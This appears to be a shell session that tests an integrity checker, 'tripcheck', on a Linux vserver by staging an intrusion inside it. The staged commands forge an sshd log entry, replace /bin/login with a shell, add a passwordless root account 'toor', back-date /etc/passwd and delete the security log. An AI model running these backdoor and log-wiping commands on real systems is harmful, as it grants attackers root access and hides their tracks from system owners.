vserver v1 build
sed -e 's/IPROOT=1.2.3.4/IPROOT=192.168.1.10/' -e 's/S_HOSTNAME=$/S_HOSTNAME=v1/' /etc/vservers/v1.conf > /tmp/v1.conf
cp /tmp/v1.conf /etc/vservers/v1.conf
vserver v1 chkconfig --level 3 crond on
ifconfig eth0:v1 192.168.1.10 netmask 255.255.255.0
killall syslogd
syslogd -m 0 -a /vservers/v1/dev/log
ls -l /vservers/v1/dev/log
vserver v1 start
tripcheck --init /vservers/v1/bin /vservers/v1/etc /vservers/v1/sbin
vserver v1 enter
logger -p authpriv.notice -t sshd 'Accepted password for root from 10.6.6.6'
cp /bin/sh /bin/login
echo 'toor::0:0::/:/bin/sh' >> /etc/passwd
touch -r /etc/group /etc/passwd
ls /var/log
rm -f /var/log/secure
killall syslogd
ls /var/lib/tripcheck
exit
tail -1 /var/log/secure
tripcheck
echo $?
